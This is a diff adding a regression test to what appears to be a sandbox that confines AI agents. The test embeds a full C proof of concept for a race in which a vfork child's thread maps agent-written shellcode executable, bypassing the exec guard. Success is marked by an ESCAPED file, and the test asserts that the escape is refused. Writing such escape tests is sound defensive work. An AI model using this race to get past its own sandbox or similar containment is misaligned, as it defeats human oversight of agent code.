@@ -1362,6 +1362,110 @@ fn mprotect_in_one_thread_while_another_vforks_is_never_refused() {
     assert!(!all.contains("mprotect ok 0 "), "{all}");
 }
 
+/// A `vfork` child makes a thread, then its first thread returns: the vfork ends while that
+/// thread still shares the parent's address space. The parent then loops on `mprotect
+/// (+PROT_EXEC)` of an allowed file's page while the thread maps the agent-written
+/// `payload.bin` over the range once the guard has opened the allowed file (`inotify`):
+/// before `exec.vfork_thread`, the payload was mapped executable in the first few tries
+/// (attack review). `ARGV[1]`: the allowed file. Writes `ESCAPED` if the payload ran; prints
+/// `race tries N hits H; plain thread ok|refused`.
+const VFORK_THREAD_C: &str = r#"
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <pthread.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/inotify.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+#define R ((char *)0x200000000ul)
+static int fdA, fdW, ino;
+static volatile int stop, started, go, fin, cerr;
+static char s1[1 << 16] __attribute__((aligned(16))), s2[1 << 16] __attribute__((aligned(16)));
+static int racer(void *a) {
+  started = 1;
+  while (!stop) {
+    if (!go) continue;
+    go = 0;
+    char b[4096]; time_t end = time(0) + 1;
+    while (read(ino, b, sizeof b) <= 0 && !stop && time(0) < end) ;
+    syscall(SYS_mmap, R, 4096, PROT_READ, MAP_SHARED | MAP_FIXED, fdW, 0);
+    fin = 1;
+  }
+  return 0;
+}
+static int child(void *a) {
+  int r = clone(racer, s2 + sizeof s2, CLONE_VM | CLONE_THREAD | CLONE_SIGHAND | CLONE_FILES | CLONE_FS, 0);
+  if (r < 0) cerr = errno; else while (!started) ;
+  return 0;
+}
+static void *plain(void *a) { return a; }
+static int hit(void) {
+  char line[512]; int h = 0; FILE *m = fopen("/proc/self/maps", "r");
+  while (fgets(line, sizeof line, m))
+    if (!strncmp(line, "200000000-", 10) && line[22] == 'x' && strstr(line, "payload.bin")) h = 1;
+  fclose(m); return h;
+}
+int main(int c, char **v) {
+  unsigned char sc[4096] = {0xb8, 0x37, 0x13, 0, 0, 0xc3};
+  int w = open("payload.bin", O_WRONLY | O_CREAT | O_TRUNC, 0644); write(w, sc, sizeof sc); close(w);
+  fdA = open(v[1], O_RDONLY); fdW = open("payload.bin", O_RDONLY);
+  ino = inotify_init1(IN_NONBLOCK); inotify_add_watch(ino, v[1], IN_OPEN);
+  if (fdA < 0 || fdW < 0 || ino < 0) { perror("setup"); return 2; }
+  clone(child, s1 + sizeof s1, CLONE_VM | CLONE_VFORK | SIGCHLD, 0);
+  if (cerr) printf("vfork child's thread refused: %s\n", strerror(cerr));
+  int hits = 0, tries = 0;
+  for (time_t end = time(0) + 4; started && !hits && time(0) < end; tries++) {
+    mmap(R, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, fdA, 0);
+    char b[4096]; while (read(ino, b, sizeof b) > 0) ;
+    fin = 0; go = 1;
+    int r = mprotect(R, 4096, PROT_READ | PROT_EXEC);
+    while (!fin) ;
+    if (!r && hit()) hits++;
+  }
+  if (hits) { int x = ((int (*)(void))R)(); FILE *m = fopen("ESCAPED", "w"); fprintf(m, "%x\n", x); fclose(m); }
+  stop = 1;
+  pthread_t t; int pr = pthread_create(&t, 0, plain, 0); if (!pr) pthread_join(t, 0);
+  printf("race tries %d hits %d; plain thread %s\n", tries, hits, pr ? "refused" : "ok");
+  return 0;
+}
+"#;
+
+#[test]
+fn a_thread_of_a_vfork_child_cannot_outlive_the_vfork_to_race_a_mapping() {
+    let t = T::new("vfork-thread");
+    let p = t.policy(DENY_CURL);
+    t.cc("vft", VFORK_THREAD_C, &["-O1", "-pthread"]);
+    // An allowed file few other processes open (its inotify events pace the race).
+    let allowed = [
+        "/usr/lib/x86_64-linux-gnu/libz.so.1",
+        "/usr/lib/x86_64-linux-gnu/libbz2.so.1.0",
+        "/usr/lib/x86_64-linux-gnu/libc.so.6",
+    ]
+    .into_iter()
+    .find(|f| std::path::Path::new(f).exists())
+    .expect("a system library");
+    let o = t.run(&["--policy", &p], &format!("./vft {allowed}"));
+    let all = text(&o);
+    // Judged on the host: the marker the payload's caller writes.
+    assert!(
+        !t.ws.join("ESCAPED").exists(),
+        "agent-written code was mapped executable through a vfork child's thread:\n{all}"
+    );
+    assert!(
+        all.contains("vfork child's thread refused: Operation not permitted"),
+        "{all}"
+    );
+    assert!(all.contains("plain thread ok"), "{all}");
+    let log = t.warden().arg("log").output().unwrap();
+    assert!(text(&log).contains("exec.vfork_thread"), "{}", text(&log));
+}
+
 /// A program interpreter that rewrites its own file after the exec stop, then jumps into
 /// the rewritten page (`SELF`: its path, set at build time; the new bytes are
 /// `denied.bin`'s, which create `PWNED`).
